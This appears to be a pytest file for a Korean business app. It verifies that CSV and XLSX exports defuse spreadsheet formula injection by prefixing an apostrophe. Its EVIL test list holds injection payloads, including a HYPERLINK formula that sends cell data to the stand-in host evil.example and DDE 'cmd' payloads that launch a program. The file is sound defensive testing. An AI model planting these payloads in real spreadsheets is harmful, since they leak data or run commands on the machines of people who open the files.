"""Formula injection: every CSV and XLSX writer keeps `= + - @ tab CR`-leading text as text (OWASP rule:
a leading apostrophe), XLSX cells are strings not formulas, and numbers stay numbers.  Files are read
back with csv / openpyxl, as a spreadsheet would read them."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from moduai.spreadsheet import is_formula_like, safe_cell

EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"클릭")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1", "\r=1+1", "＝1+1"]


@pytest.mark.parametrize("value", EVIL)
def test_formula_like_text_gets_an_apostrophe(value):
    assert is_formula_like(value)
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [12000, -5, 3.5, "12,000원", "-12,000", "+3.5", "-", "010-****-5678", "김*수", None,
                                   "a=b", "2025-03-04"])
def test_numbers_and_ordinary_text_unchanged(value):
    if value == "-":  # a lone dash cannot compute anything but is still formula-leading: OWASP prefixes it
        assert safe_cell(value) == "'-"
        return
    assert safe_cell(value) == value


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _no_formula(wb) -> list[tuple[str, str]]:
    return [(ws.title, c.coordinate) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_marketing_segments_csv_and_xlsx():
    from moduai.marketing.customers import analyze_customers, parse_ledger_csv
    from moduai.marketing.exports import segments_csv, segments_xlsx

    name = EVIL[0]
    ledger = ('고객,날짜,금액\n"' + name.replace('"', '""') + '",2025-01-02,12000\n@SUM(A1),2025-01-03,5000\n'
              "010-1234-5678,2025-01-04,7000\n").encode()
    _t, sales = parse_ledger_csv(ledger, key=b"k" * 32)
    res = analyze_customers(sales)
    rows = _csv_rows(segments_csv(res))
    customers = {r[0] for r in rows[1:]}
    assert "'" + name in customers and "'@SUM(A1)" in customers and "010-****-5678" in customers
    assert not any(c.startswith(("=", "@", "+")) for r in rows for c in r)
    wb = load_workbook(io.BytesIO(segments_xlsx(res)))
    assert _no_formula(wb) == []
    ws = wb["고객 세그먼트"]
    cells = {ws.cell(row=i, column=1).value: ws.cell(row=i, column=1) for i in range(2, ws.max_row + 1)}
    assert cells["'" + name].data_type == "s"
    money = [ws.cell(row=i, column=5) for i in range(2, ws.max_row + 1)]
    assert sorted(c.value for c in money) == [5000, 7000, 12000] and all(c.data_type == "n" for c in money)


def test_marketing_replies_csv_keeps_review_text_inert():
    from moduai.marketing.exports import replies_csv
    from moduai.marketing.reviews import analyze_reviews, parse_reviews_csv

    data = ("날짜,평점,내용\n2025-01-02,5,=1+1 맛있어요\n2025-01-03,4,-맛있고 친절해요\n").encode()
    _t, records = parse_reviews_csv(data)
    rows = _csv_rows(replies_csv(analyze_reviews(records)))
    texts = [r[7] for r in rows[1:]]
    assert texts == ["'=1+1 맛있어요", "'-맛있고 친절해요"]
    assert [r[2] for r in rows[1:]] == ["5.0", "4.0"]  # ratings stay numbers


def test_commerce_report_xlsx_store_name_is_text_not_formula():
    from moduai.commerce.export import report_pdf_bytes, report_xlsx_bytes
    from moduai.commerce.report import build_commerce_report

    r = build_commerce_report(37.5898, 127.0579, radius_m=300, category="카페", snapshot="hoegidong-2026Q1")
    assert r.trade_area.competitors, "the fixture area must have competitors"
    evil = EVIL[0]
    r.trade_area.competitors[0] = dataclasses.replace(r.trade_area.competitors[0], name=evil, address="<b>&")
    wb = load_workbook(io.BytesIO(report_xlsx_bytes(r)))
    assert _no_formula(wb) == []
    ws = wb["경쟁점포"]
    names = [ws.cell(row=i, column=3) for i in range(2, ws.max_row + 1)]
    hit = [c for c in names if c.value == "'" + evil]
    assert len(hit) == 1 and hit[0].data_type == "s"
    assert all(ws.cell(row=i, column=1).data_type == "n" for i in range(2, ws.max_row + 1))  # distances
    assert report_pdf_bytes(r).startswith(b"%PDF")  # markup characters in a name do not break the PDF


def test_balance_frame_exports():
    from moduai.balance.exports import csv_bytes, xlsx_bytes

    df = pd.DataFrame({"지역": [EVIL[0], "강릉시", "=지역"], "값": [1.5, -2.0, 3.0], "순위": [1, 2, 3]})
    rows = _csv_rows(csv_bytes(df))
    assert rows[1] == ["'" + EVIL[0], "1.5", "1"] and rows[2] == ["강릉시", "-2.0", "2"] and rows[3][0] == "'=지역"
    wb = load_workbook(io.BytesIO(xlsx_bytes(df, notes=["=설명"])))
    assert _no_formula(wb) == []
    ws = wb["지표"]
    assert ws["A2"].value == "'" + EVIL[0] and ws["A2"].data_type == "s"
    assert ws["B3"].value == -2.0 and ws["B3"].data_type == "n"
    assert wb["설명"]["A2"].value == "'=설명"


def test_calendar_csv_is_safe():
    from moduai.marketing.calendar import build_content_calendar
    from moduai.marketing.exports import calendar_csv

    cal = build_content_calendar(2026, "카페")
    month = cal.months[0]
    month.events[0] = dataclasses.replace(month.events[0], name="=HYPERLINK(1)")
    rows = _csv_rows(calendar_csv(cal))
    names = [r[2] for r in rows[1:]]
    assert "'=HYPERLINK(1)" in names and "=HYPERLINK(1)" not in names
    assert all(dt.date.fromisoformat(r[0]) for r in rows[1:])
